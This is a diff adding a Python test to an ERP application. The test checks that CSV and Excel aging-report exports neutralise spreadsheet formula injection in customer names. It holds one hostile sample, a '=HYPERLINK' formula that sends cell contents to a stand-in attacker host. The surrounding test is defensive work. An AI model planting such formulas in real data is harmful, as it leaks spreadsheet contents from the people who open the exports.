@@ -20,6 +20,8 @@ from smarterp.core.audit import AuditRecord
 from smarterp.core.db import unit_of_work, utcnow
 from smarterp.core.login_throttle import LoginThrottle
 from smarterp.erp.invoicing.models import Invoice, InvoiceState
+from smarterp.erp.partners import service as partners
+from smarterp.erp.partners.schemas import PartnerUpdate
 from smarterp.erp.purchasing.models import PurchaseOrder, PurchaseState
 from smarterp.erp.sales import service as sales
 from smarterp.erp.sales.models import SalesOrder, SalesState
@@ -455,6 +457,27 @@ def test_language_switch_is_remembered_and_formats_for_the_locale(
 
 
 # --- Reports --------------------------------------------------------------------------------
+
+
+def test_exports_write_formula_like_text_as_text(
+    browser: Browser, books: Books, engine: Engine
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Alfreds")'
+    with unit_of_work(engine, actor="test") as s:
+        partner = partners.get_partner(s, books.customer_id)
+        partners.update_partner(s, partner.id, PartnerUpdate(version=partner.version, name=evil))
+    order_id = _create_order(browser, books, "3")
+    for action in ("confirm", "deliver", "invoice"):
+        browser.post(f"/sales-orders/{order_id}/{action}")
+    resp = browser.client.get("/reports/aging?kind=receivable&format=csv")
+    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + evil
+    resp = browser.client.get("/reports/aging?kind=receivable&format=xlsx")
+    sheet = load_workbook(io.BytesIO(resp.content)).active
+    assert sheet is not None
+    cell = sheet["A2"]
+    assert cell.data_type == "s" and cell.value == "'" + evil  # text, not a formula
+    assert Decimal(str(sheet.cell(2, sheet.max_column).value)) == Decimal("54.00")
 
 
 def test_reports_render_and_download_as_csv_and_excel(browser: Browser, books: Books) -> None:
